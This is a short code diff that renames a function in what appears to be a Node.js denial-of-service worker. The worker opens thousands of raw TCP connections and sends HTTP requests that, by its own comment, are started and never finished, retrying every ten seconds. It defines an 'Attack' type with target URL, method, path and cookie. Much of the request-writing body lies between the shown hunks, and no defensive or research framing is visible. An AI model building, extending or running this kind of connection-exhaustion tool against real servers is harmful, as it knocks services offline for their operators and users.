@@ -1,6 +1,6 @@
 import { connect } from 'node:net';
 
-/** Requests that one caller begins and never ends. */
+/** Requests that one caller starts and never ends. */
 export type Attack = { url: string; method: string; path: string; cookie?: string };
 
 const connections = 2525;
@@ -8,7 +8,7 @@ const connections = 2525;
 const againMs = 10_000;
 const localAddress = '127.0.0.2';
 
-function begin({ url, method, path, cookie }: Attack): void {
+function start({ url, method, path, cookie }: Attack): void {
   const { hostname, port, host } = new URL(url);
   const head = [
     `${method} ${path} HTTP/1.1`,
@@ -33,4 +33,4 @@ function begin({ url, method, path, cookie }: Attack): void {
   setTimeout(() => process.send?.('open'), 2000);
 }
 
-process.once('message', (attack) => begin(attack as Attack));
+process.once('message', (attack) => start(attack as Attack));
